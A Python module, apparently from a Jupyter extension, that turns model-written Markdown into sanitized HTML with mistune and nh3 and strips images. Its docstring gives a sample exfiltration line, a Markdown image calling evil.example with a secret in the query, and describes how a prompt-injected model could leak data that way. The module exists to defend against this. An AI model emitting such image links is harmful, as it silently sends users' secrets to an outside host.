"""Model-written Markdown as HTML that is safe to put in a page: the live view's finished
replies and the static transcript a cell keeps (:mod:`.transcript`).

Three steps, each for its own reason: ``sanitize_markdown`` first, so HTML the model wrote
that is not allowed shows as the text it is (``<script>`` is visible, not silently dropped,
the same as in an exported notebook); mistune renders the Markdown (with raw HTML passed
through, since what is left of it is allowed); nh3 then cleans the HTML mistune produced,
which is the step that guarantees safety whatever the first two did (event handlers,
``javascript:`` URLs, unknown tags).

Code blocks are coloured by :mod:`.highlight` (the live view's highlighter too). Its HTML
never goes through nh3, which would strip the classes and colours: mistune writes a
placeholder for each block, nh3 cleans the rest, and the placeholders become the
highlighter's HTML, whose every character of code is escaped.

One more rule than the notebook and Markdown exports: no ``<img>`` from model or tool HTML. An image loads by
itself, so a prompt-injected model could leak data in its URL
(``![](https://evil.example/?q=<secret>)``) without a click; a Markdown image is shown as a
link instead, and the only images on the page are PNGs validated by :mod:`.media`.
"""

from __future__ import annotations

import functools
import html
import re
from typing import TYPE_CHECKING, Any

from mibyan_jupyter.export.highlight import highlight_html, language
from mibyan_jupyter.export.sanitize import SAFE_SCHEMES, sanitize_markdown

if TYPE_CHECKING:
    import mistune
    import nh3


_MARKS = str.maketrans({"\ue002": "\ufffd", "\ue003": "\ufffd"})
_CODE_PLACE = re.compile("(?:<p>)?\ue002(\\d+)\ue003(?:</p>)?")


def _renderer(codes: list[str]) -> mistune.Markdown:
    """A mistune renderer that puts each code block's highlighted HTML in ``codes`` and a
    placeholder in the text (a new one per call: cheap, and no state shared by threads)."""
    import mistune

    class Renderer(mistune.HTMLRenderer):
        def image(self, text: str, url: str, title: Any = None) -> str:
            return f'<a href="{self.safe_url(url)}">[image: {text or html.escape(url)}]</a>'

        def block_code(self, code: str, info: str | None = None) -> str:
            codes.append(highlight_html(code, language(info)))
            return f"\ue002{len(codes) - 1}\ue003\n"

    return mistune.create_markdown(
        escape=False, renderer=Renderer(escape=False), plugins=["strikethrough", "table", "url"]
    )


@functools.cache
def _cleaner() -> nh3.Cleaner:
    import nh3

    return nh3.Cleaner(tags=set(nh3.ALLOWED_TAGS) - {"img"}, url_schemes=set(SAFE_SCHEMES))


def clean_html(text: str) -> str:
    """HTML from a model or a tool through nh3's allow-list, without images."""
    return _cleaner().clean(text)


def markdown_html(text: str) -> str:
    """``text`` (Markdown, untrusted) rendered to sanitized HTML."""
    if not text.strip():
        return ""
    codes: list[str] = []
    rendered = _renderer(codes)(sanitize_markdown(text.translate(_MARKS)))
    assert isinstance(rendered, str)  # the "html" renderer returns text, not tokens
    cleaned = clean_html(rendered).strip()
    return _CODE_PLACE.sub(lambda m: codes[int(m[1])], cleaned) if codes else cleaned
